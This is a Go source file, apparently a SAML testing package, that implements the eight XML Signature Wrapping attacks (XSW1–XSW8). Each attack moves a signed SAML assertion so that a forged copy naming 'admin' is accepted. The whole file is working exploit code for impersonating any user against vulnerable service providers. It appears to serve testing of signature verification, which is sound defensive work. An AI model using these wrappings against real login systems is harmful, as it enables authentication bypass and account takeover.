package samltest

import "github.com/beevik/etree"

// Wrappings are the eight ways to wrap a signed answer around a forged one
// (Somorovsky, Mayer, Schwenk, Kampmann and Jensen, "On Breaking SAML: Be Whoever
// You Want to Be", 2012). The first two want a signed Response, the others a
// signed Assertion. The forged one is about admin.
var Wrappings = map[string]func(response *etree.Element){
	"XSW1": func(r *etree.Element) {
		original := forge(r)
		sig := take(r, "Signature")
		take(original, "Signature")
		sig.AddChild(original)
		r.InsertChildAt(1, sig)
	},
	"XSW2": func(r *etree.Element) {
		original := forge(r)
		take(original, "Signature")
		r.InsertChildAt(1, original)
	},
	"XSW3": func(r *etree.Element) {
		r.InsertChildAt(2, forged(r))
	},
	"XSW4": func(r *etree.Element) {
		evil := forged(r)
		evil.AddChild(take(r, "Assertion"))
		r.AddChild(evil)
	},
	"XSW5": func(r *etree.Element) {
		evil, original := forged(r), take(r, "Assertion")
		evil.InsertChildAt(1, take(original, "Signature"))
		r.AddChild(evil)
		r.AddChild(original)
	},
	"XSW6": func(r *etree.Element) {
		evil, original := forged(r), take(r, "Assertion")
		sig := take(original, "Signature")
		sig.AddChild(original)
		evil.InsertChildAt(1, sig)
		r.AddChild(evil)
	},
	"XSW7": func(r *etree.Element) {
		evil := forged(r)
		evil.CreateAttr("ID", r.SelectElement("Assertion").SelectAttrValue("ID", ""))
		extensions := etree.NewElement("samlp:Extensions")
		extensions.AddChild(evil)
		r.InsertChildAt(1, extensions)
	},
	"XSW8": func(r *etree.Element) {
		evil, original := forged(r), take(r, "Assertion")
		sig := take(original, "Signature")
		sig.CreateElement("ds:Object").AddChild(original)
		evil.InsertChildAt(1, sig)
		r.AddChild(evil)
	},
}

// forge makes the answer itself the forged one, and returns the original.
func forge(r *etree.Element) *etree.Element {
	original := r.Copy()
	r.CreateAttr("ID", "_evil")
	a := r.SelectElement("Assertion")
	a.CreateAttr("ID", "_evil2")
	a.FindElement(".//NameID").SetText("admin")
	return original
}

// forged is a forged copy of the assertion, without a signature.
func forged(r *etree.Element) *etree.Element {
	evil := r.SelectElement("Assertion").Copy()
	evil.CreateAttr("ID", "_evil")
	evil.FindElement(".//NameID").SetText("admin")
	take(evil, "Signature")
	return evil
}

// take removes a child and returns it.
func take(e *etree.Element, tag string) *etree.Element {
	c := e.SelectElement(tag)
	if c != nil {
		e.RemoveChild(c)
	}
	return c
}
